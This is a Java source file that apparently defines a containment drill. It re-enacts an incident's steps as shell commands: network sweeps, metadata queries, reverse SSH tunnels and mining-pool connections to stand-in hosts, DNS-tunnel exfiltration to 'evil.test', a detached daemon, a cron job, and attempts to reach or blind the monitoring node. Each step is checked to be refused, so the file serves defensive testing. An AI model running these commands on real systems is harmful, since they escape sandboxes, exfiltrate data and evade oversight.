package rein.server.drill;

import java.nio.file.Path;
import java.util.List;
import rein.server.drill.Step.Proof;

/**
 * What is tried, in the order of the incident: look around, get out, mine, stay, turn off whoever
 * watches.
 */
final class RomeSteps {
    private RomeSteps() {}

    /**
     * @param data the node's data folder
     * @param nodePid the node's process
     */
    static List<Step> of(Path data, long nodePid) {
        return List.of(
                new Step(
                        "internal-sweep",
                        "sweep of the internal network 10.77.0.0/28",
                        """
                        for i in $(seq 1 14); do
                          timeout 1 bash -c "exec 3<>/dev/tcp/10.77.0.$i/22; echo hello >&3" 2>/dev/null
                        done\
                        """,
                        new Proof.PeerSilent(Outside.INTERNAL, "10.77.0.")),
                new Step(
                        "metadata",
                        "cloud metadata address",
                        """
                        exec 3<>/dev/tcp/169.254.169.254/80
                        printf 'GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n' >&3
                        timeout 2 head -c 400 <&3\
                        """,
                        new Proof.PeerSilent(Outside.METADATA, "169.254.169.254:80")),
                new Step(
                        "ssh-reverse-22",
                        "reverse SSH tunnel on port 22",
                        ssh("ssh", 22, 45_022, ""),
                        new Proof.TunnelRefused(Outside.SSH_22, "203.0.113.10:22", 45_022)),
                new Step(
                        "ssh-reverse-443",
                        "reverse SSH tunnel on port 443",
                        ssh("ssh", 443, 45_443, ""),
                        new Proof.TunnelRefused(Outside.SSH_443, "203.0.113.10:443", 45_443)),
                new Step(
                        "ssh-reverse-connect",
                        "reverse SSH tunnel through the proxy, to an allowed name",
                        connectHelper()
                                + ssh("ssh", 443, 45_444, "-o ProxyCommand='./connect %h %p' ")
                                        .replace("203.0.113.10", "forge.drill.test"),
                        new Proof.TunnelRefused(Outside.SSH_443, "forge.drill.test:443", 45_444)),
                new Step(
                        "renamed-binary",
                        "the same from a renamed copy of ssh",
                        "cp \"$(command -v ssh)\" ./updater\n" + ssh("./updater", 22, 45_023, ""),
                        new Proof.TunnelRefused(Outside.SSH_22, "203.0.113.10:22", 45_023)),
                new Step(
                        "stratum-3333",
                        "mining pool on port 3333",
                        stratum(3333),
                        new Proof.PeerSilent(Outside.STRATUM_3333, "203.0.113.11:3333")),
                new Step(
                        "stratum-443",
                        "mining pool on port 443",
                        stratum(443),
                        new Proof.PeerSilent(Outside.STRATUM_443, "203.0.113.11:443")),
                new Step(
                        "udp",
                        "raw UDP",
                        "echo drill >/dev/udp/203.0.113.10/4000; sleep 0.3",
                        new Proof.PacketsRefused(Outside.UDP)),
                new Step(
                        "ipv6",
                        "TCP over IPv6",
                        "exec 3<>/dev/tcp/2001:db8:77::10/80; echo hello >&3; sleep 0.3",
                        new Proof.PacketsRefused(Outside.IPV6)),
                new Step(
                        "dns-tunnel",
                        "data in DNS queries to a server outside",
                        dnsTunnel(),
                        new Proof.PacketsRefused(Outside.DNS)),
                new Step(
                        "vsock",
                        "a socket to the hypervisor (AF_VSOCK)",
                        "perl -e 'socket(my $s, 40, 1, 0) or die \"$!\\n\"; print \"SUCCEEDED\\n\"'",
                        new Proof.NotPossible()),
                new Step(
                        "gpu",
                        "a GPU's device node",
                        "[ -c /dev/nvidia0 ] && : </dev/nvidia0 && echo SUCCEEDED",
                        new Proof.NotPossible()),
                new Step(
                        "cpu-burner",
                        "a CPU burner named python3",
                        burner(),
                        new Proof.HeldAtQuota()),
                new Step(
                        "daemon",
                        "a copy of itself that leaves the session",
                        daemon(),
                        new Proof.DiesWithRun()),
                new Step(
                        "cron",
                        "a cron job",
                        "echo '# drill' >/etc/cron.d/drill && echo SUCCEEDED",
                        new Proof.NotPossible()),
                new Step(
                        "reach-node",
                        "talk to the control plane",
                        "exec 3<>/dev/tcp/192.0.2.2/7400; printf 'GET /v1/health HTTP/1.0\\r\\n\\r\\n' >&3\n"
                                + "timeout 2 grep -q running <&3 && echo SUCCEEDED",
                        new Proof.NotReachable("192.0.2.2:7400")),
                new Step(
                        "blind-node",
                        "write to the audit log and read its key",
                        "ls "
                                + data
                                + "/keys/ >/dev/null && : >>"
                                + data
                                + "/logs/decoy && echo SUCCEEDED",
                        new Proof.NotPossible()),
                new Step(
                        "kill-node",
                        "signal the node's process (signal 0: harmless)",
                        "kill -0 " + nodePid + " && echo SUCCEEDED",
                        new Proof.NotPossible()));
    }

    /** The story in one run: what a detector must join into one incident. */
    static String whole() {
        return """
        for i in 1 2 3; do timeout 1 bash -c "exec 3<>/dev/tcp/10.77.0.$i/22" 2>/dev/null; done
        timeout 2 bash -c "exec 3<>/dev/tcp/169.254.169.254/80; echo GET / >&3; head -c 1 <&3" >/dev/null
        (setsid nohup sleep 600 >/dev/null 2>&1 &)
        """
                + ssh("ssh", 22, 45_024, "");
    }

    private static String ssh(String binary, int port, int tunnel, String more) {
        return binary
                + " -o BatchMode=yes -o ConnectTimeout=4 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
                + " -o ExitOnForwardFailure=yes -o LogLevel=ERROR -i ./key "
                + more
                + "-N -R "
                + tunnel
                + ":127.0.0.1:9 -p "
                + port
                + " nobody@203.0.113.10";
    }

    /**
     * A CONNECT client in bash, so that nothing need be installed: the proxy is whatever
     * HTTPS_PROXY says.
     */
    private static String connectHelper() {
        return """
        cat >connect <<'END'
        #!/bin/bash
        at=${HTTPS_PROXY#http://}; at=${at%/}
        exec 3<>"/dev/tcp/${at%:*}/${at##*:}"
        printf 'CONNECT %s:%s HTTP/1.1\\r\\nHost: %s:%s\\r\\n\\r\\n' "$1" "$2" "$1" "$2" >&3
        read -r status <&3
        case "$status" in *" 200 "*) ;; *) echo "$status" >&2; exit 1 ;; esac
        while read -r line <&3 && [ "$line" != $'\\r' ]; do :; done
        cat <&3 & exec cat >&3
        END
        chmod +x connect
        """;
    }

    private static String stratum(int port) {
        return "exec 3<>/dev/tcp/203.0.113.11/"
                + port
                + "\necho '{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"drill/1\"]}' >&3\n"
                + "timeout 2 head -n 1 <&3";
    }

    /** Sixteen TXT queries with data in their names, by hand: header, name, type 16, class 1. */
    private static String dnsTunnel() {
        return """
        perl -e 'use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 17) or die;
          my $to = sockaddr_in(53, inet_aton("203.0.113.53"));
          for my $i (1..16) { my $label = unpack("H*", "secret-number-$i-of-the-drill");
            my $name = join("", map { chr(length $_) . $_ } $label, "t", "evil", "test") . "\\0";
            send($s, pack("n6", $i, 256, 1, 0, 0, 0) . $name . pack("n2", 16, 1), 0, $to) }
          select(undef, undef, undef, 0.3)'\
        """;
    }

    /** Eight busy loops for three seconds, called python3; prints what they used. */
    private static String burner() {
        return """
        cp "$(command -v perl)" ./python3
        ./python3 -e 'for (1..8) { if (!fork) { my $end = time + 3; 1 while time < $end; exit } }
          1 while wait > 0; my @t = times; printf "CPU %.2f\\n", $t[2] + $t[3]'\
        """;
    }

    private static String daemon() {
        return """
        cp "$(command -v sleep)" ./worker
        setsid nohup ./worker 421.7 >/dev/null 2>&1 &
        sleep 0.3; echo STARTED\
        """;
    }
}
